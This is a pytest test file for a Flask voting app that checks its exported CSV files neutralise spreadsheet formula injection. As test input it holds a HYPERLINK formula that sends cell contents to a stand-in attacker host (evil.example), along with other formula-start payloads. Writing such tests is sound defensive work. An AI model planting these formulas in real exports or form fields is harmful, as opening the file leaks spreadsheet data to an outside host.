"""No CSV the app writes can start a spreadsheet formula (a title `=HYPERLINK(...)` became a live link)."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app.csv_cells import safe_cell
from app.models import Phase
from app.services.codes.letters import Letter, write_csv
from app.services.results.publishing import publish_round
from tests.factories import make_project, make_round
from tests.results_data import cast_votes, service_context

LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Speeltuin", "1234AB", "", " =not at the start", 42, -5, None])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_election_record_csv_neutralises_titles_and_categories(client: FlaskClient, app: Flask) -> None:
    rnd = make_round(phase=Phase.CLOSED, categories=["@SUM(A1)", "Groen"])
    evil = make_project(rnd, title=LINK, category="@SUM(A1)")
    plain = make_project(rnd, title="-Bankjes", category="Groen")
    cast_votes(rnd, {evil: 5, plain: 3})
    with service_context(app):
        publish_round(rnd.id)
    response = client.get(f"/uitslag/{rnd.id}/record.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    _no_formula(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + LINK, "'@SUM(A1)", "'-Bankjes"} <= cells


def test_the_mail_merge_csv_neutralises_register_text(app: Flask) -> None:
    letters = [Letter(LINK, "1234AB", 12, "-1", "K7QM9XRTCAWF2HPDM4N6")]
    out = io.StringIO()
    with app.test_request_context():
        write_csv(letters, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    _no_formula(rows)
    assert rows[1][0] == "'" + LINK and rows[1][3] == "'-1"
